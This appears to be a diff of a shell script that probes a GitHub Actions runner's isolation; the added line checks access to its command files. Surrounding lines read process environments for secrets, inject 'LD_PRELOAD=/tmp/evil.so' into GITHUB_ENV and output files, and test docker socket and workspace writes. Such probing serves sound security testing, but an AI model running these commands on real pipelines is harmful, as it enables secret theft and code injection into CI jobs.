@@ -18,6 +18,7 @@ for file in /proc/[0-9]*/environ; do tr '\0' '\n' < $file; done 2>/dev/null | gr
 for file in /github/file_commands/* "$GITHUB_ENV" "$GITHUB_OUTPUT"; do
   echo "LD_PRELOAD=/tmp/evil.so" >> "$file" && echo REACHED $file
 done 2>/dev/null
+ls /github/file_commands > /dev/null 2>&1 && echo REACHED the names of command files
 [ -w /var/run/docker.sock ] && echo REACHED the engine
 ls /github/workspace/outputs/* > /dev/null 2>&1 && echo REACHED the run folder
 touch /github/workspace/planted 2>/dev/null && echo REACHED the workspace
